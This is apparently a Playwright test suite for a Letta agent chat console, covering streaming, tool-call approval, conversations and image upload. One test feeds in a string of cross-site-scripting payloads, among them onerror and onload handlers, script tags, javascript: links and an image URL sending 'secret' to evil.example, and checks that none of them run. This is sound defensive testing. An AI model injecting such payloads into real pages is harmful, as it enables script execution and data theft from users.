"""Talking with an agent in the console: streams, what breaks them, decisions, memory."""

import base64
from collections.abc import Callable
from typing import Any

import pytest
from letta_client import Letta
from playwright.sync_api import Locator, Page, expect

from letta.testing.scripted_model import Call, Failure, Reply, ScriptedModel

pytestmark = [pytest.mark.slow, pytest.mark.browser]

MODEL = "openai-proxy/gpt-4o-mini"
HOSTILE = """<img src=x onerror="window.harmed = 1"><script>window.harmed = 1</script>
[click](javascript:window.harmed=1) ![see](https://evil.example/?q=secret) <b>bold</b>
<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>
| <svg onload=window.harmed=1> | b |
|---|---|
| `</code><script>window.harmed=1</script>` | c |

```html
<script>window.harmed = 1</script>
```"""
_WATCH = """() => {
    window.shown = [];
    const look = () => window.shown.push([...document.querySelectorAll(".said.agent")].at(-1)?.innerText ?? "");
    new MutationObserver(look).observe(document.body, { childList: true, characterData: true, subtree: true });
}"""
"""Keeps what the agent's last message looked like at each moment."""
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


@pytest.fixture
def make_agent(client: Letta) -> Callable[..., str]:
    def make(**fields: Any) -> str:
        blocks: Any = [{"label": "human", "value": "Name: Ada."}]
        return str(client.agents.create(model=MODEL, memory_blocks=blocks, **fields).id)

    return make


def say(page: Page, text: str) -> None:
    field = page.get_by_label("Message", exact=True)
    field.fill(text)
    field.press("Enter")


def log(page: Page) -> Locator:
    return page.get_by_role("log")


def is_done(page: Page) -> None:
    expect(page.get_by_role("button", name="Stop")).to_have_count(0)


def test_what_others_say_to_the_agent_appears_beside_what_was_shown(
    page: Page, client: Letta, make_agent: Callable[..., str], model: ScriptedModel
) -> None:
    agent_id = make_agent(name="Shared")
    page.goto(f"/#/agents/{agent_id}/chat")
    here = model.script(Reply("Hello to you here."))
    say(page, here.say())
    expect(log(page)).to_contain_text("Hello to you here.")
    is_done(page)
    elsewhere = model.script(Reply("Hello to you elsewhere."))
    client.agents.messages.create(agent_id, input=elsewhere.say("I write from my telephone."))
    expect(log(page)).to_contain_text("I write from my telephone.", timeout=60_000)
    expect(log(page)).to_contain_text("Hello to you elsewhere.")
    expect(log(page)).to_contain_text("Hello to you here.")


def test_an_answer_is_streamed_and_what_the_agent_changes_lights_up(
    page: Page, model: ScriptedModel, make_agent: Callable[..., str]
) -> None:
    page.goto(f"/#/agents/{make_agent()}")
    script = model.script(
        Reply(
            "One moment.",
            reasoning="She likes tea.",
            calls=[Call("memory_insert", {"label": "human", "new_string": "Likes tea."})],
        ),
        Reply("Noted. **Tea** it is, and nothing else", chunk_delay=0.3, hold=True),
    )
    page.evaluate(_WATCH)
    say(page, script.say("I like tea"))
    expect(log(page)).to_contain_text("One moment.")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    script.release()
    expect(log(page)).to_contain_text("Noted. Tea it is, and nothing else")
    is_done(page)
    shown = [text for text in page.evaluate("window.shown") if text.startswith("Noted")]
    assert len(set(shown)) > 1, "it came word by word"
    expect(log(page).locator("strong", has_text="Tea")).to_be_visible()

    reasoning = log(page).get_by_text("She likes tea.")
    expect(reasoning).to_be_hidden()
    log(page).get_by_text("Reasoning").click()
    expect(reasoning).to_be_visible()
    log(page).get_by_text("memory_insert").click()
    expect(log(page).locator(".arguments")).to_contain_text("Likes tea.")

    memory = page.get_by_role("complementary", name="Memory")
    expect(memory.locator("mark")).to_contain_text("Likes tea.")
    expect(memory).to_contain_text("just changed")


def test_a_turn_is_read_on_after_a_reload_and_after_the_network_was_gone(
    page: Page, model: ScriptedModel, make_agent: Callable[..., str]
) -> None:
    page.goto(f"/#/agents/{make_agent()}")
    words = " ".join(f"word{number}" for number in range(30))
    script = model.script(Reply(words, chunk_delay=0.1))
    say(page, script.say("Tell me a story"))
    expect(log(page)).to_contain_text("word3 ")
    page.reload()
    expect(log(page)).to_contain_text("word8 ")
    page.context.set_offline(True)
    page.context.set_offline(False)
    expect(log(page)).to_contain_text("word29")
    is_done(page)
    expect(page.locator(".said.agent")).to_have_count(1)
    expect(page.locator(".said.agent")).to_have_text(words)
    expect(page.locator(".said.user")).to_have_count(1)


def test_a_turn_can_be_stopped(page: Page, model: ScriptedModel, make_agent: Callable[..., str]) -> None:
    page.goto(f"/#/agents/{make_agent()}")
    script = model.script(Reply("a b c d e f g h i j k l m n o p q r s t u v w x y z", chunk_delay=1.0))
    say(page, script.say("Go on and on"))
    expect(page.locator(".said.agent")).to_contain_text("a b")
    page.get_by_role("button", name="Stop").click()
    expect(log(page)).to_contain_text("Stopped.")
    is_done(page)
    expect(page.locator(".said.agent")).to_contain_text("a b")
    expect(page.locator(".said.agent")).to_contain_text("The agent won't remember this.")
    after = model.script(Reply("Here again."))
    say(page, after.say("Still there?"))
    expect(log(page)).to_contain_text("Here again.")


def test_calls_are_approved_and_denied_in_place(
    page: Page, model: ScriptedModel, client: Letta, make_agent: Callable[..., str]
) -> None:
    gated: Any = [{"type": "requires_approval", "tool_name": "memory_insert"}]
    agent_id = make_agent(tool_rules=gated, tools=["memory_insert"], include_base_tool_rules=False)
    page.goto(f"/#/agents/{agent_id}")
    insert = Call("memory_insert", {"label": "human", "new_string": "Likes tea."})
    script = model.script(
        Reply(calls=[insert]),
        Reply(calls=[Call("memory_insert", {"label": "human", "new_string": "Hates tea."})]),
        Reply("As you wish."),
    )
    say(page, script.say("I like tea"))
    expect(log(page)).to_contain_text("needs approval")
    expect(page.get_by_label("Message", exact=True)).to_be_disabled()
    page.reload()
    page.get_by_role("button", name="Approve").click()
    page.get_by_role("button", name="Deny …").click()
    page.get_by_placeholder("Why not?").fill("That is wrong.")
    page.get_by_role("button", name="Deny", exact=True).click()
    expect(log(page)).to_contain_text("As you wish.")
    is_done(page)
    assert client.agents.blocks.retrieve("human", agent_id=agent_id).value == "Name: Ada.\nLikes tea."
    assert "That is wrong." in str(script.requests[-1].body)


def test_a_call_is_edited_in_place_and_then_done_as_edited(
    page: Page, model: ScriptedModel, client: Letta, make_agent: Callable[..., str]
) -> None:
    """It is refused with the call to make instead, and that one needs no further leave; any other one does."""
    gated: Any = [{"type": "requires_approval", "tool_name": "memory_insert"}]
    agent_id = make_agent(tool_rules=gated, tools=["memory_insert"], include_base_tool_rules=False)
    page.goto(f"/#/agents/{agent_id}")
    inserts = [
        Call("memory_insert", {"label": "human", "new_string": f"Likes {drink}.", "insert_line": -1})
        for drink in ("tea", "green tea", "coffee")
    ]
    script = model.script(*(Reply(calls=[insert]) for insert in inserts), Reply("As you wish."))
    say(page, script.say("I like green tea"))
    page.get_by_role("button", name="Edit …").click()
    form = page.locator("form.edit")
    form.get_by_label("insert_line").fill("at the end")
    form.get_by_role("button", name="Approve as edited").click()
    expect(form.get_by_role("alert")).to_contain_text("insert_line has to be JSON")
    form.get_by_label("insert_line").fill("-1")
    form.get_by_label("new_string").fill("Likes green tea.")
    form.get_by_role("button", name="Approve as edited").click()

    calls = log(page).locator(".call")
    expect(calls).to_have_count(3)
    expect(calls.nth(0)).to_contain_text("changed")
    expect(calls.nth(1)).to_contain_text("done")
    expect(calls.nth(2)).to_contain_text("needs approval")
    assert "Likes green tea." in str(script.requests[1].body)
    assert client.agents.blocks.retrieve("human", agent_id=agent_id).value == "Name: Ada.\nLikes green tea."
    page.reload()
    expect(calls.nth(0)).to_contain_text("changed")
    calls.nth(0).get_by_text("memory_insert").click()
    expect(calls.nth(0)).to_contain_text("told to use these arguments instead")
    page.get_by_role("button", name="Deny …").click()
    page.get_by_role("button", name="Deny", exact=True).click()
    expect(log(page)).to_contain_text("As you wish.")


def test_calls_that_were_asked_for_together_are_decided_together(
    page: Page, model: ScriptedModel, client: Letta, make_agent: Callable[..., str]
) -> None:
    gated: Any = [{"type": "requires_approval", "tool_name": "memory_insert"}]
    agent_id = make_agent(
        tool_rules=gated,
        tools=["memory_insert"],
        include_base_tool_rules=False,
        model_settings={"provider_type": "openai", "parallel_tool_calls": True},
    )
    page.goto(f"/#/agents/{agent_id}")
    both = [Call("memory_insert", {"label": "human", "new_string": f"Likes {drink}."}) for drink in ("tea", "rum")]
    script = model.script(Reply(calls=both), Reply("Only tea, then."))
    say(page, script.say("I like tea and rum"))
    calls = log(page).locator(".call")
    calls.nth(0).get_by_role("button", name="Approve").click()
    expect(calls.nth(0)).to_contain_text("Will be approved once the other calls are decided.")
    calls.nth(1).get_by_role("button", name="Deny …").click()
    calls.nth(1).get_by_role("button", name="Deny", exact=True).click()
    expect(log(page)).to_contain_text("Only tea, then.")
    is_done(page)
    assert client.agents.blocks.retrieve("human", agent_id=agent_id).value == "Name: Ada.\nLikes tea."


def test_nothing_that_a_model_writes_is_run_or_loaded(
    page: Page, model: ScriptedModel, client: Letta, make_agent: Callable[..., str]
) -> None:
    agent_id = make_agent(name="Hostile")
    client.agents.blocks.update("human", agent_id=agent_id, value=HOSTILE)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"/#/agents/{agent_id}")
    call = Call("memory_insert", {"label": "human", "new_string": HOSTILE})
    script = model.script(Reply(HOSTILE, reasoning=HOSTILE, calls=[call]), Reply(HOSTILE))
    say(page, script.say(HOSTILE))
    expect(page.locator(".said.agent")).to_have_count(2)
    is_done(page)
    for details in page.locator("details").all():
        details.evaluate("element => { element.open = true; }")
    expect(log(page)).to_contain_text("<b>bold</b>")
    assert page.evaluate("window.harmed") is None
    assert page.locator(".said script, .said iframe, .said img, .said b, .said svg:not(.icon)").count() == 0
    assert page.locator("a[href^='javascript']").count() == 0
    assert [url for url in asked if "evil" in url] == []


def test_conversations_stand_side_by_side(page: Page, model: ScriptedModel, make_agent: Callable[..., str]) -> None:
    page.goto(f"/#/agents/{make_agent()}")
    page.get_by_role("button", name="Another conversation beside this one").click()
    panes = page.get_by_role("region", name="Conversation")
    expect(panes).to_have_count(2)
    for place in (0, 1):
        script = model.script(Reply(f"Answer {place}."))
        field = panes.nth(place).get_by_label("Message", exact=True)
        field.fill(script.say(f"Question {place}"))
        field.press("Enter")
    for place in (0, 1):
        expect(panes.nth(place).get_by_role("log")).to_contain_text(f"Answer {place}.")
    expect(panes.nth(0).get_by_role("log")).not_to_contain_text("Answer 1.")
    page.reload()
    expect(panes.nth(1).get_by_role("log")).to_contain_text("Question 1")


def test_conversations_are_named_and_deleted(
    page: Page, model: ScriptedModel, client: Letta, make_agent: Callable[..., str]
) -> None:
    agent_id = make_agent()
    page.goto(f"/#/agents/{agent_id}")
    chosen = page.get_by_role("combobox", name="Conversation")
    chosen.select_option(label="New conversation …")
    page.get_by_role("button", name="Rename the conversation").click()
    page.get_by_role("dialog").get_by_label("Name").fill("The party")
    page.get_by_role("dialog").get_by_role("button", name="Save").click()
    expect(chosen.locator("option:checked")).to_have_text("The party")
    script = model.script(Reply("Twelve guests, then."))
    say(page, script.say("We are twelve"))
    expect(log(page)).to_contain_text("Twelve guests, then.")
    is_done(page)
    page.get_by_role("button", name="Delete the conversation").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(chosen.locator("option:checked")).to_have_text("Main conversation")
    expect(log(page)).not_to_contain_text("Twelve guests")
    assert list(client.conversations.list(agent_id=agent_id)) == []


def test_a_picture_is_sent_and_shown(page: Page, model: ScriptedModel, make_agent: Callable[..., str]) -> None:
    page.goto(f"/#/agents/{make_agent()}")
    script = model.script(Reply("A pixel."))
    page.get_by_label("Add an image").set_input_files({"name": "pixel.png", "mimeType": "image/png", "buffer": PIXEL})
    expect(page.get_by_role("img", name="pixel.png")).to_be_visible()
    say(page, script.say("What is this?"))
    expect(log(page)).to_contain_text("A pixel.")
    is_done(page)
    expect(page.locator(".said.user img")).to_be_visible()
    assert "image_url" in str(script.requests[0].body)


def test_history_is_loaded_as_one_scrolls(
    page: Page, model: ScriptedModel, client: Letta, make_agent: Callable[..., str]
) -> None:
    agent_id = make_agent(
        initial_message_sequence=[{"role": "user", "content": f"Old {number} " * 12} for number in range(95)]
    )
    page.goto(f"/#/agents/{agent_id}")
    said = page.locator(".said.user")
    expect(said.last).to_contain_text("Old 94")
    assert said.count() < 60
    while (known := said.count()) < 95:
        log(page).evaluate("element => { element.scrollTop = 1; element.scrollTop = 0; }")
        expect(said).not_to_have_count(known)
    expect(said).to_have_count(95)
    expect(said.first).to_contain_text("Old 0 ")


def test_a_failure_is_readable_and_what_was_typed_stays(
    page: Page, model: ScriptedModel, make_agent: Callable[..., str]
) -> None:
    page.goto(f"/#/agents/{make_agent()}")
    script = model.script(Reply(error=Failure("auth", times=9)))
    say(page, script.say("Hello"))
    expect(log(page).get_by_role("alert")).to_be_visible()
    is_done(page)
